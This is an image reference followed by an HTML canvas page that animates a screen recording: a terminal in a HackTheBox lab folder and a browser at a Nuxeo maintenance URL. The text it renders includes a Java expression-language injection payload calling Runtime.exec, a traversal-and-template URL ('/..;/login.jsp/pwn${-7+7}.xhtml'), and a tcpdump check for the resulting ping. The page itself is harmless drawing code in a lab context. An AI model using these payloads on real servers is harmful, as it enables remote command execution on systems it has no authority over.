
An HTML page with a canvas for the animation above (8 s loop, 844 by 610 pixels).

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<style>
  html, body { margin: 0; width: 844px; height: 610px; overflow: hidden; background: #1c1f22; }
  canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="844" height="610"></canvas>
<script>
const ctx = document.getElementById("stage").getContext("2d");
const LOOP = 8000, STEP = 100;
const UI = "'Noto Sans', sans-serif", MONO = "11.63px 'DejaVu Sans Mono', monospace";
const COLS = 115, CELL = 7, LINE = 15, LEFT = 2, TOP = 53;
const RAISE = 5900, OPEN = 6600;

// ---------- drawing helpers ----------
function box(x, y, w, h, fill, radius = 0) {
  ctx.fillStyle = fill;
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, radius);
  ctx.fill();
}
function disc(x, y, r, fill) {
  ctx.fillStyle = fill;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, 7);
  ctx.fill();
}
function stroke(d, color, width = 1.4, x = 0, y = 0) {
  ctx.save();
  ctx.translate(x, y);
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.stroke(new Path2D(d));
  ctx.restore();
}
const ring = r => `M${-r} 0a${r} ${r} 0 1 0 ${2 * r} 0a${r} ${r} 0 1 0 ${-2 * r} 0`;
function text(s, x, y, color, size = 15, weight = 400, family = UI) {
  ctx.font = `${weight} ${size}px ${family}`;
  ctx.fillStyle = color;
  ctx.fillText(s, x, y);
  return ctx.measureText(s).width;
}
// Text that fades out towards the right edge
function fadeText(s, x, y, color, size, edge, length = 24) {
  const fade = ctx.createLinearGradient(edge - length, 0, edge, 0);
  fade.addColorStop(0, color);
  fade.addColorStop(1, color + "00");
  return text(s, x, y, fade, size);
}
function clipped(x, y, w, h, draw) {
  ctx.save();
  ctx.beginPath();
  ctx.rect(x, y, w, h);
  ctx.clip();
  draw();
  ctx.restore();
}
function vertical(y0, y1, from, to) {
  const g = ctx.createLinearGradient(0, y0, 0, y1);
  g.addColorStop(0, from);
  g.addColorStop(1, to);
  return g;
}
function shadowed(blur, alpha, draw) {
  ctx.save();
  ctx.shadowColor = `rgba(0,0,0,${alpha})`;
  ctx.shadowBlur = blur;
  ctx.shadowOffsetY = 2;
  draw();
  ctx.restore();
}
function frame(x, y, w, h, title, active) {
  shadowed(active ? 14 : 8, .55, () => box(x, y, w, h, "#3c3b37", [6, 6, 0, 0]));
  box(x, y, w, 27, active ? vertical(y, y + 27, "#504f49", "#3e3d39") : "#3c3b37", [6, 6, 0, 0]);
  stroke(`M${x + 5} ${y + .5}H${x + w - 5}`, active ? "#62615b" : "#484742", 1);
  text(title, x + 22, y + 17, active ? "#dfdbd2" : "#8e8c84", 14, 500);
  ["M-3 0H3", "M-3 -3H3V3H-3Z", "M-2 -2L2 2M2 -2L-2 2"].forEach((mark, i) => {
    const bx = x + w - 55 + 18 * i, by = y + 12.5;
    disc(bx, by, 8, "#2c2b28");
    disc(bx, by, 7, !active ? "#5b5a55" : i == 2 ? "#e2502c" : "#8a887f");
    stroke(mark, "#33322e", 1.2, bx, by);
  });
}

// ---------- pointer ----------
const PATH = [
  [0, 173, 103], [200, 173, 103], [300, 152, 106], [400, 140, 108], [600, 140, 108], [700, 150, 106],
  [800, 280, 88], [900, 345, 80], [1000, 280, 82], [1100, 262, 66], [1300, 270, 50], [1500, 310, 54],
  [1700, 260, 66], [2000, 155, 88], [2100, 134, 90], [2200, 113, 90], [2300, 60, 90], [2400, 12, 96],
  [2500, 5, 101], [2800, 5, 101], [2900, 5, 94], [3000, 3, 90], [3300, 3, 90], [3400, 21, 91],
  [3700, 21, 91], [3800, 4, 90], [3900, 4, 90], [4000, 24, 101], [4100, 55, 90], [4500, 55, 90],
  [4800, 130, 102], [5100, 166, 80], [5200, 166, 80], [5800, 457, 594], [6100, 457, 594], [6300, 603, 320],
  [6400, 603, 320], [6500, 618, 284], [6600, 622, 277], [6900, 765, 279], [7100, 788, 280], [7200, 788, 280],
  [7400, 791, 287], [7500, 788, 280], [7600, 788, 280], [7800, 605, 279], [LOOP, 605, 279]
];
function pointer(t) {
  const i = Math.max(1, PATH.findIndex(p => p[0] >= t));
  const [t0, x0, y0] = PATH[i - 1], [t1, x1, y1] = PATH[i];
  const k = (t - t0) / (t1 - t0);
  return [x0 + (x1 - x0) * k, y0 + (y1 - y0) * k];
}
function drawPointer(t) {
  const [x, y] = pointer(t).map(Math.round);
  if (t >= 5800 && t < 6500) {
    const arrow = "M.5 .5V14.5L4 11.5L6.5 17L9 16L6.5 10.5H11Z";
    ctx.save();
    ctx.translate(x, y);
    ctx.fillStyle = "#fff";
    ctx.fill(new Path2D(arrow));
    ctx.restore();
    stroke(arrow, "#111", 1.2, x, y);
  } else {
    const beam = "M-3 -7.5H-1L.5 -6.5L2 -7.5H4M.5 -6.5V6.5M-3 7.5H-1L.5 6.5L2 7.5H4";
    stroke(beam, "#111", 3, x, y);
    stroke(beam, "#fff", 1, x, y);
  }
}

// ---------- terminal ----------
const INK = "#dcd9cd", DARK = "#30312b", PLAIN = s => [...s].map(c => [c, INK]);
const PROMPT = [
  ["wkel", "#45d820", 1], ["@", "#f3e9a6", 1], ["plumo", "#5cecec", 1], ["[", "#a01212"],
  ["~/hackthebox/hancliffe-10.10.11.115", "#1f9a12"], ["]", "#a01212"], ["$", "#f3e9a6"], [" ", INK]
].flatMap(([s, color, bold]) => [...s].map(c => [c, color, bold]));
const PAYLOAD = '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime",null)' +
  '.invoke(null,null).exec("ping 10.10.14.6",null).waitFor()}';
const ROWS = [
  [...PROMPT, ...PLAIN("echo '" + PAYLOAD + "'")],
  PLAIN(PAYLOAD),
  [...PROMPT, ...PLAIN("sudo tcpdump -ni tun0 icmp")],
  PLAIN("tcpdump: verbose output suppressed, use -v or -vv for full protocol decode"),
  PLAIN("listening on tun0, link-type RAW (Raw IP), capture size 262144 bytes")
].flatMap(line => line.length > COLS ? [line.slice(0, COLS), line.slice(COLS)] : [line]);

function cells(line, x, y, color) {
  line.forEach(([c, ink, bold], i) => {
    ctx.font = (bold ? "bold " : "") + MONO;
    ctx.fillStyle = color ? color(i) || ink : ink;
    ctx.fillText(c, x + i * CELL, y);
  });
}
// First selected cell; the selection runs from there to the end of the fourth row
function selectionStart(t) {
  if (t < 800 || t >= 7300) return [9, 0];
  if (t >= 3800) return [2, 0];
  const [x, y] = pointer(t - 50);
  return [Math.max(0, Math.floor((y - TOP) / LINE)), Math.max(0, Math.floor((x - LEFT) / CELL))];
}
function cursorShown(t) {
  return [700, 1100, 1600, 2300, 2900, 3600, 4300].filter(s => t >= s).length % 2 == 1;
}
function terminal(t) {
  const active = t < RAISE;
  frame(0, 0, 823, 565, "Terminal", active);
  [["File", 7], ["Edit", 43], ["View", 82], ["Search", 127], ["Terminal", 184], ["Help", 254]]
    .forEach(([s, x]) => text(s, x, 44, active ? "#dfdbd2" : "#c9c6be", 14));
  box(1, 52, 808, 512, "#35362f");
  const [startRow, startCol] = selectionStart(t);
  ROWS.forEach((line, r) => {
    const from = r < startRow || r > 3 ? COLS : r == startRow ? startCol : 0;
    if (from < COLS) box(LEFT + from * CELL, TOP + r * LINE, (COLS - from) * CELL, LINE, INK);
    cells(line, LEFT, TOP + r * LINE + 12, i => i >= from && DARK);
  });
  if (!active) stroke("M1.5 158.5H9.5V173.5H1.5Z", INK, 1);
  else if (cursorShown(t)) box(2, 158, 7, 15, INK);

  box(2, 548, 805, 15, "#4fa60b");
  box(5, 550, 12, 8, "#777a78", 1);
  box(7, 551, 8, 5, "#444846");
  box(3, 558, 16, 3, "#b9bbb8", 1);
  cells(PLAIN("10.10.14.6  0:bash  1:bash- 2:sudo*"), 23, 559, () => "#26301c");
  cells(PLAIN("plumo"), 772, 559, () => "#26301c");

  box(809, 52, 13, 512, "#86a854");
  box(809, 52, 13, 18, "#f6f5f2");
  box(809, 546, 13, 18, "#f6f5f2");
  ctx.fillStyle = "#777";
  ctx.fill(new Path2D("M811.5 63L815.5 58.5L819.5 63ZM811.5 553L815.5 557.5L819.5 553Z"));
}

// ---------- browser ----------
const HOST = "10.10.11.115", FOLDER = "/maintenance", REST = "/..;/login.jsp/pwn${-7+7}.xhtml";
const GLYPH = "#3c3b3a", PAPER = "#fffffd", URL_SIZE = 14.8, TAB_SIZE = 14.2;

function globe(x, y) {
  stroke(ring(7) + "M-7 0H7M0 -7C-4.5 -3 -4.5 3 0 7C4.5 3 4.5 -3 0 -7", GLYPH, 1.3, x, y);
}
function star(x, y, r, fill) {
  let d = "";
  for (let i = 0; i < 10; i++) {
    const a = i * Math.PI / 5, q = i % 2 ? r * .48 : r;
    d += (i ? "L" : "M") + q * Math.sin(a) + " " + -q * Math.cos(a);
  }
  ctx.save();
  ctx.translate(x, y);
  ctx.fillStyle = fill || PAPER;
  ctx.fill(new Path2D(d + "Z"));
  ctx.restore();
  stroke(d + "Z", fill || GLYPH, 1.4, x, y);
}
function addressIcons() {
  stroke("M0 -8L6.5 -5.5C6.5 1 4.5 5.5 0 8C-4.5 5.5 -6.5 1 -6.5 -5.5Z", GLYPH, 1.5, 390, 276);
  stroke("M-5 -1H5V6H-5ZM-3 -1V-4A3 3 0 0 1 3 -4V-1", GLYPH, 1.6, 418, 276);
  stroke("M-7 -7L7 7", "#e22850", 1.7, 418, 276);
  star(704, 276, 8.5);
}
function address(t) {
  ctx.font = `400 ${URL_SIZE}px ${UI}`;
  const widthOf = s => ctx.measureText(s).width;
  clipped(436, 262, 254, 32, () => {
    if (t < OPEN) {
      const w = text(HOST, 436, 282, "#1c1c1c", URL_SIZE);
      fadeText(FOLDER + REST, 436 + w, 282, "#787876", URL_SIZE, 690);
      return;
    }
    const full = HOST + FOLDER + REST;
    const scroll = Math.min(1, Math.max(0, (t - 6700) / 300)) * (widthOf(full) - 254);
    const x = 436 - scroll, anchor = x + widthOf(HOST + FOLDER);
    const end = t < 7800 ? Math.min(690, pointer(t)[0]) : anchor;
    text(full, x, 282, "#2c2c2a", URL_SIZE);
    if (end > anchor) clipped(anchor, 267, end - anchor, 19, () => {
      box(anchor, 267, end - anchor, 19, "#8aab5c");
      text(full, x, 282, "#fff", URL_SIZE);
    });
    if (scroll) {
      const fade = ctx.createLinearGradient(436, 0, 446, 0);
      fade.addColorStop(0, PAPER);
      fade.addColorStop(1, PAPER + "00");
      box(436, 262, 10, 32, fade);
    }
  });
}
function suggestions() {
  shadowed(8, .3, () => box(370, 257, 354, 370, PAPER, 4));
  stroke("M376 296.5H718M376 530.5H718", "#d9d8d5", 1);
  [
    ["Nuxeo Platform", "http://10.10.11.115/maintenance", globe],
    ["Drub Cell Community", "http://10.129.102.162", globe],
    ["Drub Cell Community", "http://www.windcorp.htb", (x, y) => box(x - 8, y - 8, 16, 16, "#40325f")],
    ["Malware Scanner", "http://10.129.102.163", globe],
    ["First View", "start.ubuntu-mate.org", (x, y) => disc(x, y, 7.5, "#87b158")],
    ["VidOrbu", "vidorbu.com", (x, y) => box(x - 6, y - 6, 12, 12, "#d5101c")]
  ].forEach(([title, url, icon], i) => {
    const y = Math.round(320.5 + 37.6 * i);
    icon(390, y);
    ctx.font = "400 15px " + UI;
    const w = Math.min(129, ctx.measureText(title).width);
    clipped(408, y - 15, w + 1, 30, () =>
      w < 129 ? text(title, 408, y + 5, "#2e2e2c") : fadeText(title, 408, y + 5, "#2e2e2c", 15, 537));
    stroke(`M${408 + w + 7} ${y + .5}h15`, "#8d8d89", 1);
    clipped(400, y - 15, 312, 30, () => fadeText(url, 408 + w + 28, y + 4, "#a3b583", 13, 712, 30));
  });
  text("This time, search with:", 382, 561, "#7c7c79");
  ["#4285f4", "#f0981c", "#2a9fd8", "#de5833", "#c8414b", "#222222"]
    .forEach((color, i) => disc(390 + 40 * i, 583, 6, color));
  star(630, 583, 7, "#6f9c46");
  stroke("M-7 8V-3H7V8", GLYPH, 1.5, 390, 608);
  stroke(ring(7) + "M0 -4V0H3", GLYPH, 1.5, 430, 611);
  stroke(ring(5) + "M0 -7V-5M-6 -4L-4 -3M6 -4L4 -3", GLYPH, 1.8, 704, 610);
}
function browser(t) {
  frame(248, 186, 598, 440, "Vorella Tandrix", t >= RAISE);
  box(251, 216, 221, 36, "#f3f2f0", 4);
  clipped(255, 218, 195, 34, () => fadeText(HOST + FOLDER + REST, 259, 240, "#2e2e2c", TAB_SIZE, 456, 30));
  disc(492, 234, 7.5, "#222320");
  clipped(500, 218, 172, 34, () => fadeText("TarnUp - jvqd/CVE-2018", 505, 240, "#dfdbd2", TAB_SIZE, 680, 32));
  const cross = "M-3.5 -3.5L3.5 3.5M3.5 -3.5L-3.5 3.5";
  stroke(cross, GLYPH, 1.3, 456, 234);
  stroke(cross, "#dfdbd2", 1.3, 681, 234);
  stroke("M-6 0H6M0 -6V6", "#dfdbd2", 1.5, 718.5, 235);

  box(249, 256, 597, 40, "#f5f4f2");
  box(249, 296, 597, 1, "#cfcdca");
  box(249, 297, 597, 330, PAPER);
  stroke("M7 0H-6M-1 -5.5L-6.5 0L-1 5.5", GLYPH, 1.6, 273, 277);
  stroke("M-7 0H6M1 -5.5L6.5 0L1 5.5", "#b3b2af", 1.6, 309, 277);
  stroke("M5.8 -2.5A6.3 6.3 0 1 0 6.3 1M6.5 -7V-2H1.5", GLYPH, 1.6, 345, 277);
  stroke("M-6.5 -5H6.5V0A6.5 6.5 0 0 1 -6.5 0ZM-3 -1L0 2L3 -1", GLYPH, 1.5, 749, 276);
  disc(786, 276, 7.5, "#d98b58");
  box(777, 263, 21, 12, "#35c23c");
  clipped(777, 263, 21, 12, () => text("Drub", 778, 272, "#111", 9.5));
  stroke("M-6 -5H6M-6 0H6M-6 5H6", GLYPH, 1.5, 821, 276);
  text("ERROR: facelet not found at '/login.jsp/pwn0.xhtml'", 257, 321, "#cc0008", 16, 700, "'DejaVu Serif', serif");

  if (t >= OPEN) suggestions();
  else {
    box(374, 260, 346, 32, "#c4c2be", 4);
    box(375, 261, 344, 30, PAPER, 3);
  }
  addressIcons();
  address(t);
}

// ---------- scene ----------
function desktop() {
  box(0, 0, 844, 610, "#1c1f22");
  stroke("M820 108Q832 130 844 186M820 138Q832 160 840 186M822 126L844 121M822 152L844 146", "#39421a", 1.2);
}
function render(now) {
  const t = Math.floor(now % LOOP / STEP) * STEP;
  desktop();
  const layers = [browser, terminal];
  if (t >= RAISE) layers.reverse();
  layers.forEach(draw => draw(t));
  drawPointer(t);
}
(function tick() {
  render(performance.now());
  requestAnimationFrame(tick);
})();
</script>
</body>
</html>
```
